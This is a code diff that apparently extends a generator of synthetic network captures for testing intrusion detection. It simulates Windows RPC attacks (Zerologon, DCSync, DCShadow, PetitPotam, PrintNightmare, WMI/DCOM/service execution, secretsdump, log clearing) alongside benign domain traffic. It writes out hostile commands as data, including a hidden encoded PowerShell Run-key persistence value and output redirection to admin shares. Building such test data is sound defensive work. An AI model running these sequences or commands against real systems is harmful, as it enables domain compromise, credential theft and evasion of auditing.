@@ -230,12 +230,17 @@ def scenario(function):
     return function
 
 
+CLIENT, SERVER, CONTROLLER = "10.20.1.10", "10.20.2.20", "10.20.2.21"
+DRSUAPI = ("e3514235-4b06-11d1-ab04-00c04fc2dcd2", "4.0")
+OBJECT = HANDLE + bytes(4)  # a handle and success
+
+
 @scenario
 def remote_service(capture):
     """A service is made that runs a command line, started and deleted again (MS-SCMR over TCP)."""
-    mapped(capture, "10.20.1.10", "10.20.2.20", SVCCTL, 49671)
-    rpc = Rpc(capture, "10.20.1.10", "10.20.2.20", 49671, SVCCTL, NTLM, INTEGRITY)
-    rpc.request(open_manager(), HANDLE + bytes(4))
+    mapped(capture, CLIENT, SERVER, SVCCTL, 49671)
+    rpc = Rpc(capture, CLIENT, SERVER, 49671, SVCCTL, NTLM, INTEGRITY)
+    rpc.request(open_manager(), OBJECT)
     service = bytes(range(31, 51))
     rpc.request(create_service("BTOBTO", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"),
                 bytes(4) + service + bytes(4))
@@ -243,6 +248,275 @@ def remote_service(capture):
     rpc.request(filled(scmr.RDeleteService(), hService=service))
     rpc.request(filled(scmr.RCloseServiceHandle(), hSCObject=service), bytes(24))
     rpc.close()
+
+
+@scenario
+def scheduled_task(capture):
+    """A task is registered, run and deleted (MS-TSCH, as atexec does; over TCP and sealed)."""
+    interface = ("86d35949-83c9-4044-b424-db363231fd0c", "1.0")
+    mapped(capture, CLIENT, SERVER, interface, 49672)
+    rpc = Rpc(capture, CLIENT, SERVER, 49672, interface, NTLM, PRIVACY)
+    xml = "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/C dir</Arguments></Exec></Actions></Task>\0"
+    rpc.request(filled(tsch.SchRpcRegisterTask(), path="\\bcdefgh\0", xml=xml, flags=6, sddl=NULL, logonType=0,
+                       cCreds=0, pCreds=NULL), bytes(64))
+    rpc.request(filled(tsch.SchRpcRun(), path="\\bcdefgh\0", cArgs=0, pArgs=NULL, flags=0, sessionId=0, user=NULL),
+                bytes(24))
+    capture.wait(2)
+    rpc.request(filled(tsch.SchRpcDelete(), path="\\bcdefgh\0", flags=0))
+    rpc.close()
+
+
+def wmi(capture, client, level, calls):
+    """Activation, log-in to the namespace, then calls of IWbemServices: (opnum, stub, length of the answer)."""
+    rpc = Rpc(capture, client, SERVER, 135, ACTIVATOR, NTLM, level)
+    rpc.ask(4, activation("8BC3F05E-D86B-11D0-A075-00C04FB68820"), bytes(1064))
+    rpc.close()
+    rpc = Rpc(capture, client, SERVER, 49673, WBEM_LOGIN, NTLM, level)
+    rpc.ask(6, this() + struct.pack("<I", 0x20000) + wide("//./root/cimv2") + bytes(12), bytes(196))
+    rpc.bind(WBEM_SERVICES)
+    for opnum, stub, answer in calls:
+        rpc.ask(opnum, stub, bytes(answer))
+    rpc.close()
+
+
+def create_process(command):
+    """The arguments of Win32_Process.Create: the class of its parameters, and an instance of it."""
+    head = this() + bstr("Win32_Process") + bstr("Create") + bytes(12)
+    values = b"__PARAMETERS\0\0" + command.encode() + b"\0"
+    return head + b"__PARAMETERS\0\0abstract\0" + bytes(1500) + values + bytes(250)
+
+
+@scenario
+def wmi_exec(capture):
+    """A program is run through WMI, in the clear (packet level), and another sealed (MS-WMI)."""
+    wmi(capture, CLIENT, 4, [(6, this() + bstr("Win32_Process") + bytes(16), 20664),
+                             (24, create_process("cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1"), 1160)])
+    capture.wait(900)
+    wmi(capture, "10.20.1.11", PRIVACY, [(6, this() + bstr("Win32_Process") + bytes(16), 20664),
+                                        (24, create_process("ipconfig"), 1160)])
+
+
+@scenario
+def dcom_exec(capture):
+    """MMC20.Application is made on another host and runs a program there (MS-DCOM, MS-OAUT)."""
+    rpc = Rpc(capture, CLIENT, SERVER, 135, ACTIVATOR, SPNEGO, CONNECT)
+    rpc.ask(4, activation("49B2791A-B1AE-4C90-9B8E-E860BA07F889"), bytes(1040))
+    rpc.close()
+    rpc = Rpc(capture, CLIENT, SERVER, 49674, REMUNKNOWN2, SPNEGO, INTEGRITY)
+    rpc.ask(3, this() + noise(16) + struct.pack("<IHxxI", 1, 1, 1) + string_to_bin(DISPATCH[0]), bytes(68))
+    rpc.bind(DISPATCH)
+    rpc.ask(5, this() + bytes(16) + struct.pack("<II", 1, 0x20000) + wide("ExecuteShellCommand") + bytes(8), bytes(20))
+    rpc.ask(6, this() + struct.pack("<I", 54) + bytes(16) + struct.pack("<III", 0x409, 1, 0x20004) + bytes(24) +
+            bstr("C:\\Windows\\System32\\cmd.exe") + bstr("/c calc"), bytes(120))
+    rpc.close()
+
+
+def challenge(computer, client):
+    return filled(nrpc.NetrServerReqChallenge(), PrimaryName=NULL, ComputerName=computer + "\0",
+                  ClientChallenge=client)
+
+
+def authenticate(computer, credential):
+    return filled(nrpc.NetrServerAuthenticate3(), PrimaryName=NULL, AccountName=computer + "$\0", SecureChannelType=6,
+                  ComputerName=computer + "\0", ClientCredential=credential, NegotiateFlags=0x212FFFFF)
+
+
+@scenario
+def zerologon(capture):
+    """Credentials of zeros until one is accepted, then the password is changed (CVE-2020-1472)."""
+    netlogon = ("12345678-1234-abcd-ef00-01234567cffb", "1.0")
+    mapped(capture, CLIENT, CONTROLLER, netlogon, 49675)
+    rpc = Rpc(capture, CLIENT, CONTROLLER, 49675, netlogon)
+    for attempt in range(40):
+        rpc.request(challenge("DC1", bytes(8)), noise(8) + bytes(4))
+        status = 0 if attempt == 39 else 0xC0000022
+        rpc.request(authenticate("DC1", bytes(8)), bytes(8) + struct.pack("<III", 0x212FFFFF, 0, status))
+    rpc.ask(30, struct.pack("<I", 0) + wide("DC1$") + struct.pack("<I", 6) + wide("DC1") + bytes(528),
+            bytes(12) + bytes(4))
+    rpc.close()
+
+
+def replication(capture, client, server, operations, auth=SPNEGO):
+    mapped(capture, client, server, DRSUAPI, 49676)
+    rpc = Rpc(capture, client, server, 49676, DRSUAPI, auth, PRIVACY)
+    for opnum, stub, answer in operations:
+        rpc.ask(opnum, bytes(stub), bytes(answer))
+    rpc.close()
+
+
+@scenario
+def dcsync(capture):
+    """An account is looked up and replicated by a host that is no domain controller (MS-DRSR)."""
+    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (16, 86, 1092), (12, 104, 184), (3, 324, 5396), (1, 20, 24)],
+                NTLM)
+
+
+@scenario
+def dcshadow(capture):
+    """A host has a controller replicate from it, is asked, and takes itself away again."""
+    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (5, 400, 4)])
+    replication(capture, CONTROLLER, CLIENT, [(0, 136, 84), (3, 324, 2000)])
+    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (6, 300, 4), (1, 20, 24)])
+
+
+@scenario
+def coercion(capture):
+    """PetitPotam: the server is sent to the caller's host and goes there; then PrinterBug."""
+    rpc = Rpc(capture, CLIENT, CONTROLLER, 49677, EFS, NTLM, INTEGRITY)
+    rpc.ask(0, wide("\\\\10.20.1.13\\test\\Settings.ini") + bytes(4), bytes(20) + struct.pack("<I", 53))
+    capture.connect(CONTROLLER, "10.20.1.13", 445).close()
+    rpc.close()
+    capture.wait(1000)
+    rpc = Rpc(capture, CLIENT, SERVER, 49678, ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), NTLM, CONNECT)
+    rpc.ask(1, struct.pack("<I", 1) + wide("\\\\10.20.2.20") + bytes(16), OBJECT)
+    rpc.ask(65, HANDLE + struct.pack("<III", 0x100, 0, 1) + wide("\\\\10.20.1.10") + bytes(8),
+            struct.pack("<I", 1722))
+    capture.connect(SERVER, CLIENT, 445).close()
+    rpc.close()
+
+
+def driver(config):
+    """The arguments of RpcAddPrinterDriverEx with DRIVER_INFO_2."""
+    info = struct.pack("<IIIIII", 3, 1, 2, 3, 4, 5)
+    for text in ("1234", "Windows x64", "C:\\Windows\\System32\\DriverStore\\UNIDRV.DLL", config,
+                 "C:\\Windows\\System32\\winhttp.dll"):
+        info += wide(text)
+    return struct.pack("<I", 1) + wide("\\\\10.20.2.20") + struct.pack("<III", 2, 2, 1) + info + struct.pack("<I", 0x8014)
+
+
+@scenario
+def print_nightmare(capture):
+    """A printer driver is installed from the caller's share, as by the published exploit (CVE-2021-1675)."""
+    rpc = Rpc(capture, CLIENT, SERVER, 49678, ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), NTLM, CONNECT)
+    rpc.ask(89, driver("\\\\10.20.1.10\\smb\\addCube.dll"), bytes(4))
+    capture.connect(SERVER, CLIENT, 445).close()
+    for number in (1, 2):
+        rpc.ask(89, driver(f"C:\\Windows\\System32\\spool\\drivers\\x64\\3\\old\\{number}\\addCube.dll"),
+                struct.pack("<I", 2))
+    rpc.close()
+
+
+def winreg(capture, client=CLIENT):
+    rpc = Rpc(capture, client, SERVER, 49679, ("338cd001-2244-31f1-aaaa-900038001003", "1.0"), NTLM, INTEGRITY)
+    rpc.ask(2, struct.pack("<II", 0, 0x02000000), OBJECT)
+    return rpc
+
+
+def open_key(name, handle=HANDLE):
+    return 15, handle + counted(name) + struct.pack("<II", 0, 0x20019), OBJECT
+
+
+def counted(text):
+    """RRP_UNICODE_STRING, with its NUL, and its characters."""
+    size = 2 * len(text) + 2
+    return struct.pack("<HHI", size, size, 0x20000) + wide(text)
+
+
+@scenario
+def remote_registry(capture):
+    """A value that starts a program at log-in is set (MS-RRP)."""
+    rpc = winreg(capture)
+    rpc.ask(*open_key("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"))
+    data = "powershell.exe -nop -w hidden -enc SQBFAFgA\0".encode("utf-16-le")
+    rpc.ask(22, HANDLE + counted("Updater") + struct.pack("<II", 1, len(data)) + data + struct.pack("<I", len(data)))
+    rpc.close()
+
+
+@scenario
+def secrets_rpc(capture):
+    """The key of a host's secrets is read and SAM saved (secretsdump); another asks for the domain's backup key."""
+    rpc = winreg(capture)
+    for part in ("JD", "Skew1", "GBG", "Data"):
+        rpc.ask(*open_key("SYSTEM\\CurrentControlSet\\Control\\Lsa\\" + part))
+    rpc.ask(6, HANDLE + counted("SAM") + struct.pack("<II", 0, 0) + bytes(16), HANDLE + struct.pack("<II", 0, 0))
+    rpc.ask(20, HANDLE + counted("..\\Temp\\xYzAbCdE.tmp") + struct.pack("<I", 0))
+    rpc.close()
+    rpc = Rpc(capture, "10.20.1.11", CONTROLLER, 49680, ("12345778-1234-abcd-ef00-0123456789ab", "0.0"), NTLM, INTEGRITY)
+    rpc.request(filled(lsad.LsarRetrievePrivateData(), PolicyHandle=HANDLE, KeyName="G$BCKUPKEY_PREFERRED",
+                       EncryptedData=NULL), bytes(60))
+    rpc.close()
+
+
+def sam(capture, client):
+    return Rpc(capture, client, CONTROLLER, 49681, ("12345778-1234-abcd-ef00-0123456789ac", "1.0"), NTLM, INTEGRITY)
+
+
+def lookup(*names):
+    request = filled(samr.SamrLookupNamesInDomain(), DomainHandle=HANDLE, Count=len(names))
+    for name in names:
+        entry = samr.RPC_UNICODE_STRING()
+        entry["Data"] = name
+        request["Names"].append(entry)
+    return request
+
+
+@scenario
+def account_tamper(capture):
+    """The password of a controller's account is set by another host, and a hash is set (MS-SAMR)."""
+    rpc = sam(capture, CLIENT)
+    rpc.request(lookup("DC1$"), bytes(32))
+    rpc.ask(34, HANDLE + struct.pack("<II", 0xF07FF, 1000), OBJECT)
+    rpc.ask(58, HANDLE + struct.pack("<HH", 26, 26) + bytes(532))
+    rpc.ask(34, HANDLE + struct.pack("<II", 0xF07FF, 1105), OBJECT)
+    rpc.ask(37, HANDLE + struct.pack("<HH", 18, 18) + bytes(40))
+    rpc.close()
+
+
+@scenario
+def domain_enumeration(capture):
+    """Users, groups, members of Domain Admins and sessions are asked for; another host lists all remote services."""
+    rpc = sam(capture, CLIENT)
+    rpc.ask(13, HANDLE + struct.pack("<III", 0, 0x10, 0xFFFF), bytes(200))
+    rpc.ask(11, HANDLE + struct.pack("<II", 0, 0xFFFF), bytes(200))
+    rpc.request(lookup("Domain Admins"), bytes(32))
+    rpc.ask(19, HANDLE + struct.pack("<II", 0x10, 512), OBJECT)
+    rpc.ask(25, HANDLE, bytes(40))
+    rpc.close()
+    rpc = Rpc(capture, "10.20.1.11", SERVER, 135, EPM)
+    rpc.ask(2, struct.pack("<IIIII", 0, 0, 0, 1, 0) + bytes(16) + struct.pack("<I", 500), HANDLE + bytes(600))
+    rpc.close()
+
+
+@scenario
+def log_clearing(capture):
+    """The security log of another host is cleared (MS-EVEN6)."""
+    rpc = Rpc(capture, CLIENT, SERVER, 49682, EVEN6, NTLM, INTEGRITY)
+    rpc.ask(6, HANDLE + struct.pack("<I", 1) + wide("Security") + struct.pack("<II", 0, 0), bytes(16))
+    rpc.close()
+
+
+@scenario
+def benign_rpc(capture):
+    """What a domain does all day: log-ins of computers, look-ups, printers, inventory, replication of controllers."""
+    netlogon, lsa = ("12345678-1234-abcd-ef00-01234567cffb", "1.0"), ("12345778-1234-abcd-ef00-0123456789ab", "0.0")
+    spoolss, srvsvc = ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), ("4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0")
+    other = "10.20.2.22"
+    replication(capture, other, CONTROLLER, [(0, 136, 84), (2, 200, 4)])
+    for hour in range(6):
+        for client in ("10.20.1.10", "10.20.1.11", "10.20.1.12"):
+            mapped(capture, client, CONTROLLER, netlogon, 49675)
+            rpc = Rpc(capture, client, CONTROLLER, 49675, netlogon)
+            rpc.request(challenge("PC" + client[-2:], noise(8)), noise(8) + bytes(4))
+            rpc.request(authenticate("PC" + client[-2:], noise(8)), bytes(16) + bytes(4))
+            rpc.close()
+            rpc = Rpc(capture, client, CONTROLLER, 49680, lsa, SPNEGO, INTEGRITY)
+            for _ in range(4):
+                rpc.ask(57, HANDLE + bytes(60), bytes(180))
+            rpc.close()
+            rpc = Rpc(capture, client, SERVER, 49678, spoolss, SPNEGO, CONNECT)
+            rpc.ask(69, struct.pack("<I", 1) + wide("\\\\print\\office") + bytes(24), OBJECT)
+            rpc.ask(65, HANDLE + struct.pack("<III", 0x100, 0, 1) + wide("\\\\PC" + client[-2:]) + bytes(8))
+            rpc.close()
+            capture.connect(SERVER, client, 445).close()
+            rpc = Rpc(capture, client, SERVER, 49684, srvsvc, SPNEGO, CONNECT)
+            rpc.ask(15, struct.pack("<I", 1) + wide("\\\\files") + bytes(24), bytes(300))
+            rpc.close()
+        replication(capture, CONTROLLER, other, [(0, 136, 84), (3, 324, 1200)])
+        replication(capture, other, CONTROLLER, [(3, 324, 1200), (2, 200, 4)])
+        wmi(capture, "10.20.1.13", PRIVACY, [(20, this() + bstr("WQL") + bstr("select * from Win32_Service"), 196),
+                                            (6, this() + bstr("StdRegProv") + bytes(16), 9000),
+                                            (24, this() + bstr("StdRegProv") + bstr("EnumKey") + bytes(600), 800)])
+        capture.wait(3600)
 
 
 def stubs():
